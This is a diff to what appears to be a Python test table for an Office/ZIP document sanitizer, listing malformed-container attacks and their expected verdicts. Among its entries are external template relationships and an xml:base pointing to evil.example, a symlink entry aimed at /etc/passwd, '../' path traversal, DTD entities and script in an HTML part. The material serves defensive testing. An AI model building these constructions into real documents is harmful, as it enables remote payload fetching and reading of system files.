@@ -137,6 +137,8 @@ def other_family(p, mark):
 	p.relate('', 'officeDocument', 'xl/workbook.xml')
 
 
+# what goes changes nothing that anybody saw: a note at most
+ANY = ('clean', 'sanitized', 'blocked')
 ATTACKS = {
 	'duplicate-after': (twin(MAIN), EITHER), 'duplicate-before': (twin(MAIN, True), EITHER), 'case-variant': (twin('Word/Document.xml'), EITHER),
 	'case-variant-first': (twin('WORD/DOCUMENT.XML', True), EITHER), 'backslash-twin': (twin('word\\document.xml'), EITHER),
@@ -152,13 +154,13 @@ ATTACKS = {
 	'html-part': (part('index.html', '<script>{m}</script>', None, None, 'text/html'), EITHER),
 	'manifest-part': (part('META-INF/MANIFEST.MF', 'Main-Class: {m}'), EITHER), 'mimetype-part': (part('mimetype', 'application/vnd.oasis.opendocument.text {m}'), EITHER),
 	'odf-twin': (part('content.xml', '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">{m}</office:document-content>'), EITHER),
-	'retype-default': (types(lambda t, m: t.replace('ContentType="application/xml"', 'ContentType="%s"' % VBA_TYPE).replace('<Default', '<!-- %s --><Default' % m, 1)), EITHER),
+	'retype-default': (types(lambda t, m: t.replace('ContentType="application/xml"', 'ContentType="%s"' % VBA_TYPE).replace('<Default', '<!-- %s --><Default' % m, 1)), ANY),
 	'retype-main-macro': (retype(MAIN, word.MAINS['docm']), EITHER), 'retype-main-case': (retype(MAIN, word.MAINS['docx'].upper()), EITHER),
 	'retype-main-parameter': (retype(MAIN, word.MAINS['docx'] + '; charset=utf-7'), EITHER), 'retype-main-other': (retype(MAIN, excel.MAINS['xlsx']), EITHER),
 	'retype-main-none': (retype(MAIN, 'application/xml'), EITHER), 'retype-styles': (retype('word/styles.xml', VBA_TYPE), EITHER),
 	'retype-picture': (retype('word/media/image1.png', 'image/svg+xml'), EITHER),
-	'types-twice': (types(lambda t, m: t.replace('</Types>', '<Override PartName="/word/document.xml" ContentType="%s"/><!-- %s --></Types>' % (VBA_TYPE, m))), EITHER),
-	'types-case': (types(lambda t, m: t.replace('</Types>', '<Override PartName="/WORD/document.XML" ContentType="%s"/><!-- %s --></Types>' % (VBA_TYPE, m))), EITHER),
+	'types-twice': (types(lambda t, m: t.replace('</Types>', '<Override PartName="/word/document.xml" ContentType="%s"/><!-- %s --></Types>' % (VBA_TYPE, m))), ANY),
+	'types-case': (types(lambda t, m: t.replace('</Types>', '<Override PartName="/WORD/document.XML" ContentType="%s"/><!-- %s --></Types>' % (VBA_TYPE, m))), ANY),
 	'types-dtd': (types(lambda t, m: t.replace('<Types', '<!DOCTYPE Types [<!ENTITY e "%s">]><Types' % m)), EITHER),
 	'relation-duplicate-id': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
 		'attachedTemplate" Target="http://evil.example/%s" TargetMode="External"/></Relationships>' % m)), EITHER),
@@ -174,7 +176,7 @@ ATTACKS = {
 		'&#97;ttachedTemplate" Target="&#104;ttp://evil.example/%s" TargetMode="Ex&#116;ernal"/></Relationships>' % m)), EITHER),
 	'relation-escaping': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
 		'image" Target="../../../../%s.png"/></Relationships>' % m)), EITHER),
-	'relation-base': (relations(lambda t, m: t.replace('<Relationships ', '<Relationships xml:base="http://evil.example/%s/" ' % m)), EITHER),
+	'relation-base': (relations(lambda t, m: t.replace('<Relationships ', '<Relationships xml:base="http://evil.example/%s/" ' % m)), ANY),
 	'relation-alternate': (relations(lambda t, m: t.replace('</Relationships>', '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback>'
 		'<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/%s" TargetMode="External"/>'
 		'</mc:Fallback></mc:AlternateContent></Relationships>' % m)), EITHER),
@@ -218,7 +220,7 @@ ATTACKS = {
 	'size-small': (lies(size=10), EITHER), 'size-large': (lies(size=0x7fffffff), EITHER), 'packed-large': (lies(packed_size=0x7fffffff, local_packed_size=0x7fffffff), EITHER),
 	'encrypted-bit': (lies(flags=1), EITHER), 'strong-encryption': (lies(flags=0x41), EITHER), 'method-unknown': (lies(method_said=99, local_method=99), EITHER),
 	'method-lzma': (lies(method_said=14, local_method=14), EITHER), 'extra-field': (lies(extra=lambda p, m: struct.pack('<HH', 0xcafe, len(m)) + m.encode()), ('sanitized', 'clean')),
-	'extra-unicode-path': (lies(extra=lambda p, m: struct.pack('<HHBI', 0x7075, 5 + len(m), 1, 0) + m.encode()), EITHER), 'extra-broken': (lies(extra=lambda p, m: b'\x01\0\xff\xff' + m.encode()), EITHER),
+	'extra-unicode-path': (lies(extra=lambda p, m: struct.pack('<HHBI', 0x7075, 5 + len(m), 1, 0) + m.encode()), ANY), 'extra-broken': (lies(extra=lambda p, m: b'\x01\0\xff\xff' + m.encode()), EITHER),
 	'entry-comment': (lies(comment=lambda p, m: m.encode()), ('sanitized', 'clean')), 'symlink': (entry('word/link', '/etc/passwd {m}', made_by=0x031e, attributes=0o120777 << 16), EITHER),
 	'descriptor': (lies(flags=8), ('sanitized', 'clean')), 'zip64': (file(zip64=True), ('sanitized', 'clean')), 'zip64-count': (file(zip64={'count': 1 << 40}), EITHER),
 	'zip64-start': (file(zip64={'start': 1 << 62}), EITHER), 'zip64-size': (file(zip64={'size': (1 << 64) - 1}), EITHER), 'zip64-locator': (file(zip64={'locator': 1 << 63}), EITHER),
@@ -231,7 +233,7 @@ ATTACKS = {
 # these hold no marker that could cross, or none that the container may not keep; the verdict and the audit tell
 NO_MARK = {'local-method', 'local-sizes', 'local-crc', 'local-flags', 'wrong-crc', 'size-small', 'size-large', 'packed-large', 'encrypted-bit', 'strong-encryption', 'method-unknown', 'method-lzma', 'descriptor',
 	'zip64', 'zip64-count', 'zip64-start', 'zip64-size', 'zip64-locator', 'count-lie', 'directory-lie', 'multi-disk', 'two-ends', 'directory-digits', 'name-nul', 'name-control', 'name-empty', 'entity-unknown'}
-FINDINGS = {'before': ('container-trailing', 'polyglot'), 'after': ('container-trailing',), 'after-zip': ('container-trailing',), 'local-sizes': ('container-mismatch',), 'local-method': ('container-mismatch',),
+FINDINGS = {'before': ('container-trailing', 'polyglot'), 'after': ('container-trailing',), 'after-zip': ('container-trailing', 'blocked-damaged'), 'local-sizes': ('container-mismatch',), 'local-method': ('container-mismatch',),
 	'unknown-part': ('part-removed',), 'choice-known': ('field-removed',)}
 TELLING = {'duplicate-after', 'case-variant', 'after-zip', 'dtd-bomb', 'choice-unknown', 'utf-16', 'local-sizes'}
 QUIET = {'descriptor', 'zip64', 'retype-main-case', 'xml-id', 'namespace-swap', 'no-type', 'unknown-type', 'unknown-part', 'retype-styles'}
